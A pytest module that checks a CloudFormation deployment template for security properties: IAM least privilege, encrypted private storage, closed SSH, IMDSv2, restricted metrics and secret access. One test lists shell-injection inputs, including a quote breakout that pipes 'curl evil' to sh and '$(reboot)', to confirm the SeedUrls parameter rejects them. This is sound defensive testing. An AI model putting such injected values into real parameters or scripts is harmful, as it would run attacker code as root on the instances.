"""The CloudFormation template passes cfn-lint and parliament, and holds what a deployment relies on.

moto ignores some resources (the bucket policy) and checks no IAM, so these
properties are read from the template itself; the deploy test checks the rest
through the service APIs.
"""

from __future__ import annotations

import json
import re
from fnmatch import fnmatchcase
from typing import Any

import parliament
import pytest

from services.deploy import template

ACCOUNT, REGION, PARTITION = "123456789012", "us-east-1", "aws"
# What a secret made by CloudFormation is called: logical id, a suffix, and six random characters.
ADMIN_SECRET_ARN = f"arn:aws:secretsmanager:{REGION}:{ACCOUNT}:secret:AdminTokenSecret-Ab3dEf9hIj0k-XyZ123"


@pytest.fixture(scope="module")
def tpl() -> dict[str, Any]:
    return template.load()


def _resources(tpl: dict[str, Any], kind: str) -> dict[str, dict[str, Any]]:
    return {k: v for k, v in tpl["Resources"].items() if v["Type"] == kind}


def _resolve(node: Any) -> Any:
    """Intrinsic functions replaced by plausible values, so policies read as JSON policies."""
    if isinstance(node, dict):
        if "Fn::Sub" in node:
            text = node["Fn::Sub"] if isinstance(node["Fn::Sub"], str) else node["Fn::Sub"][0]
            text = text.replace("${AWS::Partition}", PARTITION).replace("${AWS::Region}", REGION)
            text = text.replace("${AWS::AccountId}", ACCOUNT)
            text = re.sub(r"\$\{(\w+)\.Arn\}", r"arn:aws:s3:::\1", text)
            return re.sub(r"\$\{[\w:.]+\}", "nimbus-x", text)
        if "Fn::GetAtt" in node:
            name, attribute = node["Fn::GetAtt"]
            if attribute == "Arn" and name.endswith("LogGroup"):
                return f"arn:aws:logs:{REGION}:{ACCOUNT}:log-group:/nimbus/x/{name}:*"
            return f"arn:aws:s3:::{name.lower()}"
        if "Ref" in node:
            if node["Ref"] == "AdminTokenSecret":  # a secret's Ref is its ARN
                return ADMIN_SECRET_ARN
            return f"nimbus-{node['Ref']}"
        return {k: _resolve(v) for k, v in node.items()}
    if isinstance(node, list):
        return [_resolve(v) for v in node]
    return node


def test_cfn_lint_is_clean() -> None:
    assert template.lint() == []


def test_iam_policies_pass_parliament(tpl: dict[str, Any]) -> None:
    policies = []
    for name, role in _resources(tpl, "AWS::IAM::Role").items():
        for policy in role["Properties"].get("Policies", []):
            policies.append((name, _resolve(policy["PolicyDocument"])))
    assert len(policies) >= 3
    for name, document in policies:
        findings = parliament.analyze_policy_string(json.dumps(document)).findings
        assert not findings, (name, [(f.issue, f.detail) for f in findings])


def test_parliament_would_flag_a_mismatched_resource() -> None:
    """The check above can fail: parliament reads policies in this form and finds faults."""
    bad = {
        "Version": "2012-10-17",
        "Statement": [{"Effect": "Allow", "Action": ["s3:GetObject"], "Resource": "arn:aws:s3:::bucket"}],
    }
    assert [f.issue for f in parliament.analyze_policy_string(json.dumps(bad)).findings] == [
        "RESOURCE_MISMATCH"
    ]


def test_no_wildcard_actions_or_resources_in_our_policies(tpl: dict[str, Any]) -> None:
    for name, role in _resources(tpl, "AWS::IAM::Role").items():
        for policy in role["Properties"].get("Policies", []):
            for statement in policy["PolicyDocument"]["Statement"]:
                assert all("*" not in a for a in statement["Action"]), name
                assert statement["Resource"] != "*", name


def test_bucket_is_private_encrypted_versioned_and_tls_only(tpl: dict[str, Any]) -> None:
    bucket = tpl["Resources"]["DataBucket"]
    props = bucket["Properties"]
    assert bucket["DeletionPolicy"] == "Retain"
    assert all(props["PublicAccessBlockConfiguration"].values())
    assert props["BucketEncryption"]["ServerSideEncryptionConfiguration"][0]
    assert props["VersioningConfiguration"]["Status"] == "Enabled"
    rules = props["LifecycleConfiguration"]["Rules"]
    assert any("NoncurrentVersionExpiration" in r for r in rules)
    (statement,) = tpl["Resources"]["DataBucketPolicy"]["Properties"]["PolicyDocument"]["Statement"]
    assert statement["Effect"] == "Deny" and statement["Condition"]["Bool"]["aws:SecureTransport"] == "false"


def test_database_keeps_its_password_in_secrets_manager(tpl: dict[str, Any]) -> None:
    db = tpl["Resources"]["Database"]
    props = db["Properties"]
    assert props["ManageMasterUserPassword"] is True and "MasterUserPassword" not in props
    assert props["StorageEncrypted"] is True and props["PubliclyAccessible"] is False
    assert props["Engine"] == "mysql" and db["DeletionPolicy"] == "Snapshot"
    assert tpl["Parameters"]["DbEngineVersion"]["Default"].startswith("8.")
    assert not [p for p in tpl["Parameters"] if "password" in p.lower()]
    for lt in _resources(tpl, "AWS::EC2::LaunchTemplate").values():
        assert "assword" not in json.dumps(lt["Properties"]["LaunchTemplateData"]["UserData"])


def test_nothing_admits_ssh_and_the_database_admits_only_our_instances(tpl: dict[str, Any]) -> None:
    for name, group in _resources(tpl, "AWS::EC2::SecurityGroup").items():
        for rule in group["Properties"].get("SecurityGroupIngress", []):
            assert not (rule["FromPort"] <= 22 <= rule["ToPort"]), name
            if name != "LoadBalancerSecurityGroup":
                assert "CidrIp" not in rule, (name, rule)  # only from other groups
    db_rules = tpl["Resources"]["DatabaseSecurityGroup"]["Properties"]["SecurityGroupIngress"]
    assert {r["SourceSecurityGroupId"]["Ref"] for r in db_rules} == {
        "CrawlerSecurityGroup",
        "CommitterSecurityGroup",
        "SearchSecurityGroup",
    }
    for closed in ("CrawlerSecurityGroup", "CommitterSecurityGroup"):
        assert "SecurityGroupIngress" not in tpl["Resources"][closed]["Properties"], closed


def test_metrics_are_reachable_only_from_a_scraper_inside_the_vpc(tpl: dict[str, Any]) -> None:
    """/metrics answers on the instances, never through the internet-facing load balancer; the
    only rules that admit it are the operator's Prometheus group, and only when it is named."""
    extra = _resources(tpl, "AWS::EC2::SecurityGroupIngress")
    assert {name: rule["Properties"]["GroupId"]["Ref"] for name, rule in extra.items()} == {
        "WorkerMetricsFromScraper": "CrawlerSecurityGroup",
        "CommitterMetricsFromScraper": "CommitterSecurityGroup",
        "SearchMetricsFromScraper": "SearchSecurityGroup",
    }
    for name, rule in extra.items():
        props = rule["Properties"]
        assert rule["Condition"] == "HasMetricsScraper", name
        assert props["SourceSecurityGroupId"] == {"Ref": "MetricsScraperSecurityGroup"}, name
        assert "CidrIp" not in props and "CidrIpv6" not in props, name
        port = {"Ref": "MetricsPort"} if name != "SearchMetricsFromScraper" else 8000
        assert props["FromPort"] == props["ToPort"] == port, name
    assert tpl["Conditions"]["HasMetricsScraper"] == {
        "Fn::Not": [{"Fn::Equals": [{"Ref": "MetricsScraperSecurityGroup"}, ""]}]
    }
    assert tpl["Parameters"]["MetricsScraperSecurityGroup"]["Default"] == ""
    assert tpl["Parameters"]["MetricsPort"]["Default"] == 9100

    hidden = {
        rule["Properties"]["ListenerArn"]["Ref"]: rule
        for rule in _resources(tpl, "AWS::ElasticLoadBalancingV2::ListenerRule").values()
    }
    assert set(hidden) == {"HttpListener", "HttpsListener"}  # each listener the web reaches
    for rule in hidden.values():
        (condition,) = rule["Properties"]["Conditions"]
        assert condition["PathPatternConfig"]["Values"] == ["/metrics", "/metrics/*"]
        (action,) = rule["Properties"]["Actions"]
        assert (action["Type"], action["FixedResponseConfig"]["StatusCode"]) == ("fixed-response", "404")


def test_instances_require_imdsv2_and_encrypted_disks(tpl: dict[str, Any]) -> None:
    for lt in _resources(tpl, "AWS::EC2::LaunchTemplate").values():
        data = lt["Properties"]["LaunchTemplateData"]
        assert data["MetadataOptions"]["HttpTokens"] == "required"
        assert all(m["Ebs"]["Encrypted"] for m in data["BlockDeviceMappings"])


def test_outputs_name_everything_nimbus_needs(tpl: dict[str, Any]) -> None:
    assert {
        "SiteUrl",
        "BucketName",
        "DatabaseEndpoint",
        "DatabasePort",
        "DatabaseInstance",
        "EmrServiceRole",
        "EmrInstanceProfile",
        "EmrSubnetId",
        "Region",
    } <= set(tpl["Outputs"])


def _user_data(tpl: dict[str, Any], launch_template: str) -> str:
    """The user data script of a launch template, before CloudFormation fills in ``${...}``."""
    data = tpl["Resources"][launch_template]["Properties"]["LaunchTemplateData"]
    text, _variables = data["UserData"]["Fn::Base64"]["Fn::Sub"]
    return str(text)


def test_worker_instances_run_the_worker_role(tpl: dict[str, Any]) -> None:
    """Workers lease from the shared frontier: no seeds of their own, /metrics on MetricsPort."""
    script = _user_data(tpl, "CrawlerLaunchTemplate")
    assert "--role worker " in script and "--role crawler" not in script
    assert '--metrics-port "${MetricsPort}"' in script and "--seeds" not in script
    assert '--log-group "${CrawlerLogGroup}"' in script
    group = tpl["Resources"]["CrawlerGroup"]["Properties"]
    assert group["LaunchTemplate"]["LaunchTemplateId"] == {"Ref": "CrawlerLaunchTemplate"}


def test_committer_group_is_one_active_and_one_standby(tpl: dict[str, Any]) -> None:
    """Exactly two committers, one per AZ: they elect through a lease row, so a third would only
    stand by too, and one alone would leave the crawl without a committer while it is replaced."""
    group = tpl["Resources"]["CommitterGroup"]["Properties"]
    assert (group["MinSize"], group["MaxSize"], group["DesiredCapacity"]) == ("2", "2", "2")
    assert group["LaunchTemplate"]["LaunchTemplateId"] == {"Ref": "CommitterLaunchTemplate"}
    subnets = group["VPCZoneIdentifier"]["Fn::If"]
    assert all(len(branch) == 2 for branch in subnets[1:])

    data = tpl["Resources"]["CommitterLaunchTemplate"]["Properties"]["LaunchTemplateData"]
    assert data["InstanceType"] == {"Ref": "CommitterInstanceType"}
    assert tpl["Parameters"]["CommitterInstanceType"]["Default"] == "t3.small"
    assert data["IamInstanceProfile"] == {"Arn": {"Fn::GetAtt": ["CommitterInstanceProfile", "Arn"]}}
    assert data["NetworkInterfaces"][0]["Groups"] == [{"Ref": "CommitterSecurityGroup"}]
    script = _user_data(tpl, "CommitterLaunchTemplate")
    assert "--role committer " in script and '--seeds "${SeedUrls}"' in script
    assert '--log-group "${CommitterLogGroup}"' in script and '--metrics-port "${MetricsPort}"' in script
    log_group = tpl["Resources"]["CommitterLogGroup"]["Properties"]
    assert log_group["LogGroupName"] == {"Fn::Sub": "/nimbus/${AWS::StackName}/committer"}
    assert {"CommitterLogGroup", "CrawlerLogGroup", "SearchLogGroup"} <= set(tpl["Outputs"])


def test_committers_have_the_workers_rights_with_their_own_log_group(tpl: dict[str, Any]) -> None:
    """The database, the bucket's blocks and acknowledgements, the release: as the workers;
    only the log group they write differs."""

    def statements(role: str) -> dict[str, Any]:
        (policy,) = tpl["Resources"][role]["Properties"]["Policies"]
        return {s["Sid"]: s for s in policy["PolicyDocument"]["Statement"]}

    workers, committers = statements("CrawlerRole"), statements("CommitterRole")
    assert committers.pop("Logs")["Resource"] == {"Fn::GetAtt": ["CommitterLogGroup", "Arn"]}
    assert workers.pop("Logs")["Resource"] == {"Fn::GetAtt": ["CrawlerLogGroup", "Arn"]}
    assert committers == workers
    profile = tpl["Resources"]["CommitterInstanceProfile"]["Properties"]
    assert profile["Roles"] == [{"Ref": "CommitterRole"}]


READ_SECRET = "secretsmanager:GetSecretValue"


def _may_read(statements: list[dict[str, Any]], arn: str, tags: dict[str, str]) -> bool:
    """Whether Allow statements (intrinsics resolved) grant GetSecretValue on ``arn``, a secret
    carrying ``tags``: enough of IAM's evaluation for the policies in this template."""
    for st in statements:
        actions = st["Action"] if isinstance(st["Action"], list) else [st["Action"]]
        resources = st["Resource"] if isinstance(st["Resource"], list) else [st["Resource"]]
        if st["Effect"] != "Allow" or not any(fnmatchcase(READ_SECRET, a) for a in actions):
            continue
        if not any(fnmatchcase(arn, r) for r in resources):
            continue
        conditions = st.get("Condition", {}).get("StringEquals", {})
        if all(tags.get(k.removeprefix("secretsmanager:ResourceTag/")) == v for k, v in conditions.items()):
            return True
    return False


def test_admin_token_is_generated_and_only_the_search_role_reads_it(tpl: dict[str, Any]) -> None:
    """The dashboard's token is made by Secrets Manager, never typed into a parameter, and of
    the stack's roles only the search instances' may read it."""
    secret = tpl["Resources"]["AdminTokenSecret"]
    assert secret["Type"] == "AWS::SecretsManager::Secret"
    generate = secret["Properties"]["GenerateSecretString"]
    assert "SecretString" not in secret["Properties"] and generate["PasswordLength"] >= 32
    assert generate["ExcludePunctuation"] is True  # the token goes through an environment file
    assert tpl["Outputs"]["AdminTokenSecretArn"]["Value"] == {"Ref": "AdminTokenSecret"}

    readers = set()
    for name, role in _resources(tpl, "AWS::IAM::Role").items():
        policies = role["Properties"].get("Policies", [])
        statements = [s for policy in policies for s in policy["PolicyDocument"]["Statement"]]
        if _may_read(_resolve(statements), ADMIN_SECRET_ARN, tags={}):
            readers.add(name)
    assert readers == {"SearchRole"}

    # The evaluation can say yes to others: RDS's secret is read by every role with database access.
    rds_secret = f"arn:aws:secretsmanager:{REGION}:{ACCOUNT}:secret:rds!db-1234-AbCdEf"
    db_arn = f"arn:aws:rds:{REGION}:{ACCOUNT}:db:nimbus-x"
    for role in ("CrawlerRole", "CommitterRole", "SearchRole"):
        (policy,) = tpl["Resources"][role]["Properties"]["Policies"]
        statements = _resolve(policy["PolicyDocument"]["Statement"])
        assert _may_read(statements, rds_secret, {"aws:rds:primaryDBInstanceArn": db_arn}), role
        assert not _may_read(statements, rds_secret, {"aws:rds:primaryDBInstanceArn": "another"}), role

    script = _user_data(tpl, "SearchLaunchTemplate")
    assert '--admin-token-secret "${AdminTokenSecret}"' in script
    for name in ("CrawlerLaunchTemplate", "CommitterLaunchTemplate"):
        assert "AdminTokenSecret" not in _user_data(tpl, name), name


def test_seed_urls_cannot_break_out_of_the_user_data_quotes(tpl: dict[str, Any]) -> None:
    """SeedUrls lands inside double quotes in a root shell script: the parameter refuses what
    would end the quotes or expand there."""
    pattern = re.compile(tpl["Parameters"]["SeedUrls"]["AllowedPattern"])
    assert pattern.fullmatch("") and pattern.fullmatch("https://example.org/ https://example.net/a?b=1&c=2")
    for bad in ('x" ; curl evil | sh ; "', "$(reboot)", "`reboot`", "a\\"):
        assert not pattern.fullmatch(bad), bad


def test_search_instances_believe_forwarded_headers_only_from_the_load_balancer(tpl: dict[str, Any]) -> None:
    """Behind the HTTPS listener the app must see https (the admin cookie is Secure then), so
    uvicorn trusts X-Forwarded-Proto from the load balancer's subnets, and from nothing else."""
    data = tpl["Resources"]["SearchLaunchTemplate"]["Properties"]["LaunchTemplateData"]
    script, variables = data["UserData"]["Fn::Base64"]["Fn::Sub"]
    assert '--proxy-cidrs "${LoadBalancerCidrs}"' in script
    subnets = [s["Ref"] for s in tpl["Resources"]["LoadBalancer"]["Properties"]["Subnets"]]
    cidrs = [tpl["Resources"][s]["Properties"]["CidrBlock"] for s in subnets]
    assert variables["LoadBalancerCidrs"].split(",") == cidrs == ["10.40.0.0/20", "10.40.16.0/20"]
